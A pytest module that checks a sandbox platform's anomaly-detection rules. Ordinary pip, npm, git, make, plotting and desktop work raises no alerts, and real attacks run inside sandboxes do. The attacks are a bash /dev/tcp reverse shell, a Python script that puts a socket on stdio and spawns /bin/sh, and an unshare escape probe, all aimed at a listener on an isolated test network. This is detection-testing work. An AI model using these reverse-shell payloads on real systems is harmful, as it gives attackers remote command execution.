"""The default rule pack's false-positive suite, through the real SDKs and real gVisor sandboxes:
ordinary agent work raises **zero** alerts, and the same server raises the expected ones on
real reverse shells and an escape probe in the same run (so the zero is not vacuous).

One networked `kiln serve` (the built-in pack, its default) against a test "internet" built
here (namespace `ktrules`, 198.51.100.216/29 only): `pkgs.test` serves a PEP 503 simple index
with a wheel, an npm registry document with its tarball and a git repository over dumb HTTP,
all made by this module; a listener takes the reverse shell. The work: `pip install`,
`npm install`, `git clone`, `make` of a C program and a web server hit through kiln's proxy
(template `devtools`), a code-interpreter session plotting a chart, a desktop session (a
screenshot and a few actions); every sandbox is created with syscall auditing on, so the
rules on open/execve/connect/dup2 and escape-syscall records see the work too. The alerts are read last, after the
attack's alert arrived: the engine evaluates records in the order they were stored, so every
earlier record has been evaluated by then."""

import base64
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
import tempfile
import textwrap
import time
import zipfile

import pytest

from .internet import net_server_in, require_root, wait_http
from .rich_support import ensure_template, port_request
from .rules_support import alerts
from .testnet import NetNs

NS = "ktrules"
HOST_SIDE = "198.51.100.222"
PKGS = "198.51.100.217"
DNS = "198.51.100.218"
LISTENER = "198.51.100.219"
RANGE = "10.169.0.0/24"
AUDIT_SYSCALLS = {"kiln.audit.syscalls": "true"}

# Sandboxes of ordinary work, by workload: their alerts are read at the end.
BENIGN = {}

# Accepts one connection at a time on :4444, sends a command and an `exit`, and appends what
# comes back to a file (a reverse shell's operator, scripted).
SHELL_LISTENER = textwrap.dedent("""
    import socket, sys
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((sys.argv[1], 4444))
    s.listen(4)
    while True:
        c, _ = s.accept()
        c.settimeout(15)
        c.sendall(b"echo pwned-$((6*7)); exit\\n")
        data = b""
        try:
            while True:
                b = c.recv(4096)
                if not b:
                    break
                data += b
        except OSError:
            pass
        with open(sys.argv[2], "ab") as f:
            f.write(data)
        c.close()
""")


def b64(digest: bytes) -> str:
    return base64.urlsafe_b64encode(digest).decode().rstrip("=")


def make_wheel(www: str) -> None:
    """A pure-Python wheel `kiln-fp-demo` 1.0.0 and a PEP 503 simple index for it."""
    dist = "kiln_fp_demo-1.0.0.dist-info"
    files = {
        "kiln_fp_demo/__init__.py": b"VALUE = 'wheel from pkgs.test'\n",
        f"{dist}/METADATA": b"Metadata-Version: 2.1\nName: kiln-fp-demo\nVersion: 1.0.0\n",
        f"{dist}/WHEEL": b"Wheel-Version: 1.0\nGenerator: kiln-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(f"{p},sha256={b64(hashlib.sha256(d).digest())},{len(d)}\n" for p, d in files.items())
    files[f"{dist}/RECORD"] = (record + f"{dist}/RECORD,,\n").encode()
    whl = "kiln_fp_demo-1.0.0-py3-none-any.whl"
    os.makedirs(os.path.join(www, "files"))
    with zipfile.ZipFile(os.path.join(www, "files", whl), "w", zipfile.ZIP_DEFLATED) as z:
        for p, d in files.items():
            z.writestr(p, d)
    digest = hashlib.sha256(open(os.path.join(www, "files", whl), "rb").read()).hexdigest()
    os.makedirs(os.path.join(www, "simple", "kiln-fp-demo"))
    with open(os.path.join(www, "simple", "index.html"), "w") as f:
        f.write('<!DOCTYPE html><html><body><a href="kiln-fp-demo/">kiln-fp-demo</a></body></html>\n')
    with open(os.path.join(www, "simple", "kiln-fp-demo", "index.html"), "w") as f:
        f.write(f'<!DOCTYPE html><html><body><a href="../../files/{whl}#sha256={digest}">{whl}</a>'
                "</body></html>\n")


def make_npm_package(www: str) -> None:
    """An npm package `kiln-fp-demo` 1.0.0: its registry document at /kiln-fp-demo and tarball."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as t:
        for name, data in {
            "package/package.json": json.dumps({"name": "kiln-fp-demo", "version": "1.0.0",
                                                "main": "index.js", "license": "MIT"}).encode(),
            "package/index.js": b"module.exports = { value: 'npm package from pkgs.test' };\n",
        }.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode, info.mtime = len(data), 0o644, 1700000000
            t.addfile(info, io.BytesIO(data))
    tgz = buf.getvalue()
    os.makedirs(os.path.join(www, "tarballs"))
    with open(os.path.join(www, "tarballs", "kiln-fp-demo-1.0.0.tgz"), "wb") as f:
        f.write(tgz)
    version = {"name": "kiln-fp-demo", "version": "1.0.0", "main": "index.js", "dist": {
        "tarball": "http://pkgs.test/tarballs/kiln-fp-demo-1.0.0.tgz",
        "shasum": hashlib.sha1(tgz).hexdigest(),
        "integrity": "sha512-" + base64.b64encode(hashlib.sha512(tgz).digest()).decode()}}
    with open(os.path.join(www, "kiln-fp-demo"), "w") as f:
        json.dump({"name": "kiln-fp-demo", "dist-tags": {"latest": "1.0.0"},
                   "versions": {"1.0.0": version}}, f)


def make_git_repo(www: str, work: str) -> None:
    """A repository with one commit, bare under /repo.git and served as dumb HTTP."""
    src = os.path.join(work, "src")
    git = ["git", "-c", "user.name=kiln", "-c", "user.email=kiln@pkgs.test", "-c", "init.defaultBranch=main"]
    subprocess.run([*git, "init", "-q", src], check=True)
    with open(os.path.join(src, "README"), "w") as f:
        f.write("cloned from pkgs.test\n")
    subprocess.run([*git, "-C", src, "add", "README"], check=True)
    subprocess.run([*git, "-C", src, "commit", "-q", "-m", "first"], check=True)
    bare = os.path.join(www, "repo.git")
    subprocess.run([*git, "clone", "-q", "--bare", src, bare], check=True)
    subprocess.run([*git, "-C", bare, "update-server-info"], check=True)


@pytest.fixture(scope="module")
def pkg_net():
    """The test internet: pkgs.test (HTTP), its DNS server and the reverse shell's listener.
    Yields the path of the file where the listener writes what it received."""
    require_root()
    ns = NetNs(NS, "ktrules0", f"{HOST_SIDE}/29", [f"{a}/29" for a in (PKGS, DNS, LISTENER)], HOST_SIDE)
    base = tempfile.mkdtemp(prefix="kiln-rules-net-")
    www = os.path.join(base, "www")
    os.makedirs(www)
    received = os.path.join(base, "received")
    try:
        make_wheel(www)
        make_npm_package(www)
        make_git_repo(www, base)
        ns.up()
        ns.spawn(sys.executable, "-m", "http.server", "--bind", PKGS, "80", cwd=www)
        ns.dns(DNS, {"pkgs.test": PKGS})
        ns.spawn(sys.executable, "-c", SHELL_LISTENER, LISTENER, received)
        assert "kiln-fp-demo" in wait_http(f"http://{PKGS}/simple/")
        yield received
    finally:
        ns.down()
        shutil.rmtree(base, ignore_errors=True)


@pytest.fixture(scope="module")
def srv(pkg_net):
    with net_server_in("rules benign", RANGE, dns=DNS) as s:
        assert "anomaly detection: 31 rules (Builtin)" in s.log(), s.log()
        yield s


def sh(sbx, cmd: str, timeout: float = 120) -> str:
    """Runs `cmd` in the sandbox; its stdout (a failure shows its output)."""
    from e2b import CommandExitException
    try:
        return sbx.commands.run(cmd, timeout=timeout).stdout
    except CommandExitException as e:
        pytest.fail(f"{cmd!r} exited {e.exit_code}:\n{e.stdout}\n{e.stderr}")


def records(srv, sandbox_id, kind: str) -> int:
    """How many `kind` records the sandbox's chain holds (counted up to 1000)."""
    status, page, _ = srv.request("GET", f"/sandboxes/{sandbox_id}/audit?kind={kind}&limit=1000")
    assert status == 200, page
    return len(page["records"])


def test_pip_npm_git_make_and_a_web_server(srv):
    from e2b import Sandbox

    tpl = ensure_template(srv, "devtools")
    sbx = Sandbox.create(template=tpl, timeout=300, metadata=AUDIT_SYSCALLS, **srv.opts())
    BENIGN["devtools"] = sbx.sandbox_id
    try:
        sh(sbx, "pip install -q --user --break-system-packages --no-cache-dir "
                "--index-url http://pkgs.test/simple/ --trusted-host pkgs.test kiln-fp-demo")
        out = sh(sbx, "python3 -c 'import kiln_fp_demo; print(kiln_fp_demo.VALUE)'")
        assert out.strip() == "wheel from pkgs.test"

        sh(sbx, "mkdir -p app && cd app && npm install --registry http://pkgs.test/ --no-audit --no-fund "
                "--no-update-notifier kiln-fp-demo", timeout=180)
        out = sh(sbx, "cd app && node -e 'console.log(require(\"kiln-fp-demo\").value)'")
        assert out.strip() == "npm package from pkgs.test"

        # A deploy key made and its public half printed (ssh-keygen writes and reads the key).
        sh(sbx, "ssh-keygen -q -t ed25519 -N '' -C agent -f ~/.ssh/id_ed25519 && ssh-keygen -y -f ~/.ssh/id_ed25519")

        # A process reading its own environment through its pid (as psutil does).
        sbx.files.write("/tmp/own_env.py", "import os\nopen(f'/proc/{os.getpid()}/environ', 'rb').read()\n")
        sh(sbx, "python3 /tmp/own_env.py")

        sh(sbx, "git clone -q http://pkgs.test/repo.git")
        assert sbx.files.read("/home/user/repo/README") == "cloned from pkgs.test\n"

        sbx.files.write("/home/user/hello/hello.c",
                        '#include <stdio.h>\nint main(void) { printf("hello from make\\n"); return 0; }\n')
        sbx.files.write("/home/user/hello/Makefile", "hello: hello.c\n\t$(CC) -O2 -o $@ $<\n")
        sh(sbx, "cd hello && make")
        assert sh(sbx, "hello/hello").strip() == "hello from make"

        sbx.commands.run("cd /home/user && python3 -m http.server 8000 --bind 0.0.0.0",
                         background=True, timeout=0)
        deadline, body = time.time() + 30, b""
        while time.time() < deadline and b"hello" not in body:
            status, body, _ = port_request(srv, sbx.sandbox_id, 8000, "GET", "/")
            if b"hello" not in body:
                time.sleep(0.2)
        assert b"hello" in body, body
        # The rules had material: the agent's, the proxy's, the forwarder's and gVisor's records.
        seen = {k: records(srv, sbx.sandbox_id, k) for k in ("process", "file", "net", "dns", "syscall")}
        assert min(seen.values()) > 0 and seen["syscall"] == 1000, seen
    finally:
        sbx.kill()


def test_a_code_interpreter_session_plotting_a_chart(srv):
    from e2b_code_interpreter import Sandbox

    tpl = ensure_template(srv, "code-interpreter-v1")
    sbx = Sandbox.create(template=tpl, timeout=300, metadata=AUDIT_SYSCALLS, **srv.opts())
    BENIGN["code-interpreter"] = sbx.sandbox_id
    try:
        ex = sbx.run_code("import matplotlib.pyplot as plt\nxs = list(range(10))\n"
                          "plt.plot(xs, [x * x for x in xs])\nplt.title('squares')\nplt.show()")
        assert ex.error is None, ex.error
        pngs = [r.png for r in ex.results if r.png]
        assert pngs and base64.b64decode(pngs[0])[:8] == b"\x89PNG\r\n\x1a\n", ex.results
        ex = sbx.run_code("import pandas as pd\npd.DataFrame({'a': [1, 2]}).sum()['a']")
        assert ex.error is None and ex.text == "3", (ex.error, ex.text)
        assert records(srv, sbx.sandbox_id, "syscall") == 1000
    finally:
        sbx.kill()


def test_a_desktop_session(srv):
    from e2b_desktop import Sandbox

    tpl = ensure_template(srv, "desktop")
    desk = Sandbox.create(template=tpl, resolution=(800, 600), timeout=300, metadata=AUDIT_SYSCALLS,
                          **srv.opts())
    BENIGN["desktop"] = desk.sandbox_id
    try:
        first = bytes(desk.screenshot())
        assert first[:8] == b"\x89PNG\r\n\x1a\n"
        desk.move_mouse(200, 150)
        desk.left_click()
        desk.write("hello", chunk_size=5, delay_in_ms=20)
        desk.press("enter")
        desk.right_click(300, 200)
        desk.press("escape")
        assert desk.get_cursor_position() == (300, 200)
        assert bytes(desk.screenshot())[:8] == b"\x89PNG\r\n\x1a\n"
        assert records(srv, desk.sandbox_id, "syscall") == 1000
    finally:
        desk.kill()


# A reverse shell whose command line says nothing: a script connects, puts the connection on
# its stdio and runs a shell.
SCRIPTED_SHELL = f"""import os, socket, subprocess
s = socket.create_connection(("{LISTENER}", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
"""


def fired_rules(got: list) -> set:
    """Every rule that fired in the alerts (an incident's alert lists all of its rules)."""
    return {r for a in got for r in a["rules"]}


def wait_rules(srv, sandbox_id, want: set, timeout=10.0) -> list:
    deadline, got = time.time() + timeout, []
    while time.time() < deadline:
        got = alerts(srv, sandbox_id)
        if want <= fired_rules(got):
            break
        time.sleep(0.1)
    return got


def test_zero_alerts_on_ordinary_work_and_the_expected_ones_on_real_attacks(srv, pkg_net):
    from e2b import Sandbox

    # Real reverse shells: the shell's stdio on a TCP connection to the listener, which runs a
    # command through it. First bash's /dev/tcp, then a script (only syscall auditing sees
    # it), and an escape probe (unshare of a mount namespace). Each shell is one incident.
    sbx = Sandbox.create(timeout=120, metadata=AUDIT_SYSCALLS, **srv.opts())
    script = Sandbox.create(timeout=120, metadata=AUDIT_SYSCALLS, **srv.opts())
    try:
        sbx.commands.run(f"timeout 20 bash -c 'bash -i >& /dev/tcp/{LISTENER}/4444 0>&1' || true",
                         timeout=30)
        want = {"reverse_shell_dev_tcp", "shell_connects_out", "reverse_shell_stdio_socket"}
        got = wait_rules(srv, sbx.sandbox_id, want)
        assert fired_rules(got) == want, got
        assert [(a["incident"], a["rule"]) for a in got] == [("remote_shell", "reverse_shell_dev_tcp")], got
        assert got[0]["count"] >= 3, got
        # The listener writes what it received once the shell's connection closes.
        deadline = time.time() + 15
        while not os.path.exists(pkg_net) and time.time() < deadline:
            time.sleep(0.2)
        with open(pkg_net, "rb") as f:
            assert f.read().count(b"pwned-42") == 1, "the listener ran a command through the shell"

        script.files.write("/tmp/job.py", SCRIPTED_SHELL)
        script.commands.run("timeout 20 python3 /tmp/job.py; unshare -m true; true", timeout=30)
        want = {"reverse_shell_stdio_socket", "escape_probe_syscalls"}
        got = wait_rules(srv, script.sandbox_id, want)
        assert fired_rules(got) == want, got
        assert sorted((a["incident"], a["count"]) for a in got) == [("escape_probe", 1), ("remote_shell", 3)], got
        # Each firing is on the chain with its own output.
        status, page, _ = srv.request("GET", f"/sandboxes/{script.sandbox_id}/audit?kind=lifecycle&limit=1000")
        on_chain = [r["body"] for r in page["records"] if r["body"].get("event") == "alert"]
        fds = set()
        for b in on_chain:
            m = re.fullmatch(rf"python3 \(pid \d+\) put its connection to {LISTENER}:4444 on fd (\d) "
                             rf"in sandbox {script.sandbox_id}", b["output"])
            if b["rule"] == "reverse_shell_stdio_socket":
                assert m, b["output"]
                fds.add(int(m.group(1)))
        assert fds == {0, 1, 2}, on_chain
        probes = [a["output"] for a in got if a["rule"] == "escape_probe_syscalls"]
        assert probes == [f"escape probe in sandbox {script.sandbox_id}: unshare (errno 1)"], probes
        deadline = time.time() + 15
        while time.time() < deadline:
            with open(pkg_net, "rb") as f:
                if f.read().count(b"pwned-42") >= 2:
                    break
            time.sleep(0.2)
        with open(pkg_net, "rb") as f:
            assert f.read().count(b"pwned-42") == 2, "the scripted shell ran the command too"
    finally:
        sbx.kill()
        script.kill()
    # The attacks' records were stored after every record of the benign sandboxes, and the
    # engine evaluates in storage order: whatever those records raise has been raised (an
    # alert is stored on its own task: a moment's grace).
    time.sleep(1.0)
    assert set(BENIGN) == {"devtools", "code-interpreter", "desktop"}, BENIGN
    raised = {name: [(a["rule"], a["output"]) for a in alerts(srv, sid)] for name, sid in BENIGN.items()}
    assert raised == {name: [] for name in BENIGN}, raised
    assert "the rule engine is behind" not in srv.log(), "records went unevaluated"
